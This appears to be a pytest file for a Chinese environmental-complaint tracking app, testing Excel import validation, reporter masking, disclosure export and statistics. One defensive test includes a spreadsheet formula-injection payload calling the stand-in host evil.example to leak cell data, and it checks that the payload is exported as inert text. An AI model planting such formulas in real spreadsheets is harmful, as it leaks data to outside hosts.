import io

from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from complaints import workflow
from complaints.excel import DISCLOSURE_COLUMNS, import_complaints, write_disclosure
from complaints.models import Complaint


def sheet(rows):
    header = [
        "序号",
        "受理时间",
        "受理方式",
        "举报人",
        "联系电话",
        "交办问题基本情况",
        "行政区域",
        "污染类型",
        "批次",
    ]
    workbook = Workbook()
    workbook.active.append(header)
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


def rows_of(buffer):
    from ducha.spreadsheets import read_sheet

    return list(read_sheet(buffer, required=("行政区域",)))


GOOD = [
    1,
    "2026-11-20 09:30",
    "来电",
    "李四",
    "13900001111",
    "信都区某砖厂粉尘污染严重",
    "信都区",
    "扬尘、大气",
    1,
]


def test_a_bad_file_changes_nothing_and_names_row_and_column(cast, inspection):
    bad = [
        GOOD,
        [2, "2026-11-20", "来电", "", "", "短", "信都区", "", 1],
        [3, "昨天", "传真", "", "", "任泽区某饭店油烟扰民", "丛台区", "油烟、光污染", 1],
    ]
    result = import_complaints(rows_of(sheet(bad)), inspection=inspection)
    messages = [str(e) for e in result.errors]
    assert "第 3 行，“交办问题基本情况”列：不能为空，至少 5 个字" in messages
    assert "第 4 行，“行政区域”列：“丛台区”不是本次督察范围内的区县" in messages
    assert "第 4 行，“受理方式”列：“传真”应为 来电、来信、网络 或 来访" in messages
    assert "第 4 行，“污染类型”列：“光污染”不在污染类型字典中" in messages
    assert any(m.startswith("第 4 行，“受理时间”列") for m in messages)
    assert Complaint.objects.count() == 0
    assert not inspection.batches.exists()


def test_a_good_file_registers_into_the_batch(cast, inspection):
    result = import_complaints(
        rows_of(sheet([GOOD, [2, None, "来信", "", "", "任泽区某养殖场粪污直排", "任泽区", "畜禽养殖", 1]])),
        inspection=inspection,
    )
    assert result.errors == [] and result.created == 2
    batch = inspection.batches.get(number=1)
    assert batch.status == "draft"
    rows = list(batch.complaints.order_by("number"))
    assert {c.status for c in rows} == {"accepted"}
    assert {c.lead_unit for c in rows} == {cast.gov_a, cast.gov_b}
    assert rows[0].number == "D3HE202611200001"
    assert rows[0].reporter_name_masked == "李*" and "李四" not in rows[0].reporter_name_secret
    workflow.issue_batch(batch, by=cast.inspector)


def test_the_command_reports_errors_and_writes_nothing(cast, inspection, tmp_path):
    import pytest
    from django.core.management.base import CommandError

    path = tmp_path / "bad.xlsx"
    path.write_bytes(sheet([[1, "2026-11-20", "来电", "", "", "信都区某厂偷排", "北京", "", ""]]).getvalue())
    err = io.StringIO()
    with pytest.raises(CommandError, match="1 处错误"):
        call_command("import_complaints", str(path), inspection=inspection.code, stderr=err)
    assert "第 2 行，“行政区域”列" in err.getvalue()
    assert Complaint.objects.count() == 0


def test_disclosure_export_has_title_and_the_columns_in_order_and_no_reporter(
    cast, register, walk, inspection
):
    complaint = walk(register(), "closed")
    workflow.publish_batch(complaint.batch, by=cast.office)
    buffer = io.BytesIO()
    assert write_disclosure(inspection, buffer, batch=1) == 1
    buffer.seek(0)
    values = list(load_workbook(buffer).active.iter_rows(values_only=True))
    assert "群众信访举报转办和边督边改公开情况一览表（第1批）" in values[0][0]
    assert tuple(values[1]) == DISCLOSURE_COLUMNS
    assert values[2][:4] == (1, complaint.number, complaint.text, "信都区")
    assert values[2][6] == "属实" and values[2][9] == "已办结"
    flat = str(values)
    assert "张三" not in flat and "13812341234" not in flat and "138****" not in flat


def test_stats_command_prints_the_named_keys(cast, register, walk, inspection):
    import json

    walk(register(), "closed")
    register("任泽区某饭店油烟扰民", region=cast.county_b)
    out = io.StringIO()
    call_command("stats", inspection=inspection.code, format="json", stdout=out)
    figures = json.loads(out.getvalue())
    for key in (
        "received",
        "accepted",
        "rejected",
        "duplicates",
        "transferred",
        "closed",
        "stage_closed",
        "in_progress",
        "overdue",
        "fines_yuan",
    ):
        assert key in figures
    assert (figures["received"], figures["transferred"], figures["closed"], figures["fines_yuan"]) == (
        2,
        1,
        1,
        200000,
    )


def test_text_that_looks_like_a_formula_goes_out_as_text(cast, register, walk, inspection):
    """A member of the public types `=HYPERLINK(...)`; the disclosure table shows it, never runs it."""
    attack = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看详情")'
    complaint = walk(register(attack + "，信都区某厂排污"), "closed")
    workflow.publish_batch(complaint.batch, by=cast.office)
    buffer = io.BytesIO()
    write_disclosure(inspection, buffer, batch=1)
    buffer.seek(0)
    cell = load_workbook(buffer).active["C3"]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")
    assert cell.quotePrefix
    buffer.seek(0)
    assert b"<f>" not in _sheet_xml(buffer)


def _sheet_xml(buffer) -> bytes:
    import zipfile

    with zipfile.ZipFile(buffer) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_counties_and_units_are_read_as_people_write_them(cast, inspection):
    """邢台县 is 信都区 today, 任县 is 任泽区; 信都区政府 is 信都区人民政府 (issue 13)."""
    rows = [
        [1, None, "来电", "", "", "某砖厂粉尘污染严重", "邢台县", "扬尘", 1],
        [2, None, "来信", "", "", "某养殖场粪污直排", "邢台市任县", "畜禽养殖", 1],
    ]
    buffer = sheet(rows)
    workbook = load_workbook(buffer)
    workbook.active.cell(row=1, column=10, value="承办单位")
    workbook.active.cell(row=2, column=10, value="信都区政府")
    workbook.active.cell(row=3, column=10, value="县环保部门")
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    result = import_complaints(rows_of(out), inspection=inspection)
    assert [str(e) for e in result.errors] == [
        "第 3 行，“承办单位”列：“县环保部门”不是本次督察范围内的单位（不是已登记的单位：请写全称，或在导入结果页对照、新建）"
    ]
    del result
    workbook.active.cell(row=3, column=10, value="任泽区人民政府")
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    result = import_complaints(rows_of(out), inspection=inspection)
    assert result.errors == [] and result.created == 2
    first, second = Complaint.objects.order_by("number")
    assert (first.region, first.lead_unit) == (cast.county_a, cast.gov_a)
    assert (second.region, second.lead_unit) == (cast.county_b, cast.gov_b)
